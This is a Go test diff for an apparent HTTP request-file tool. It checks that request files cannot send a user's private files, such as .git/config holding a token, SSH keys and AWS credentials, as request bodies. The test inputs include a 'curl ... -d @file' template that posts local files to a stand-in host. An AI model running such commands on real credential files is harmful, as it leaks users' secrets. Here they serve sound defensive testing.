@@ -1,6 +1,8 @@
 package request_test
 
 import (
+	"errors"
+	"fmt"
 	"net/http"
 	"os"
 	"path/filepath"
@@ -261,5 +263,51 @@ func TestThreatEchoInMediaType(t *testing.T) {
 	})
 	if got := w.mustSend(get(server.URL)).Body.MediaType; strings.Contains(got, strings.ToLower(value)) {
 		t.Errorf("media type %q", got)
+	}
+}
+
+// TestThreatFilesOfTheUser: a workspace's folder holds files that did not come
+// with it. A request file cannot have them sent, in no way that reads a file.
+func TestThreatFilesOfTheUser(t *testing.T) {
+	w := newWorld(t)
+	for name, text := range map[string]string{
+		".git/config": "url = https://user:token@example.com", "sub/.HG/hgrc": "x", ".ssh/id": "key",
+		"sub/.aws/credentials": "key", "a/.b/c.json": "{}", ".env.json": "{}",
+	} {
+		path := filepath.Join(w.dir, filepath.FromSlash(name))
+		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), writeFile(path, text)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.Symlink(".git/config", filepath.Join(w.dir, "data.json")); err != nil {
+		t.Fatal(err)
+	}
+	for _, test := range []struct{ home, file, want string }{
+		{"", ".git/config", "belongs to you"},
+		{"", "./data.json", "belongs to you"},
+		{"", "sub/.HG/hgrc", "belongs to you"},
+		{"", ".ssh/id", ""}, // of the repository, not the user's
+		{"", "a/.b/c.json", ""},
+		{".", ".ssh/id", "belongs to you"},
+		{".", ".env.json", "belongs to you"},
+		{".", "a/.b/c.json", ""},
+		{"sub", "sub/.aws/credentials", "belongs to you"},
+		{"sub", "a/.b/c.json", ""},
+	} {
+		home := t.TempDir()
+		if test.home != "" {
+			home = filepath.Join(w.dir, test.home)
+		}
+		t.Setenv("HOME", home)
+		for _, form := range []string{
+			"POST http://x.test\n\n< %s", "POST http://x.test\n\n<@ %s", "GET http://x.test/{{< %s}}", "curl http://x.test -d @%s",
+		} {
+			plan, problems := w.build(fmt.Sprintf(form, test.file))
+			e := request.ProblemError(problems)
+			if test.want == "" && plan == nil ||
+				test.want != "" && (plan != nil || e == nil || e.Code != request.CodeBodyFile || !strings.Contains(e.Message, test.want)) {
+				t.Errorf("home %q, %q, %s: %+v, want %q", test.home, form, test.file, problems, test.want)
+			}
+		}
 	}
 }
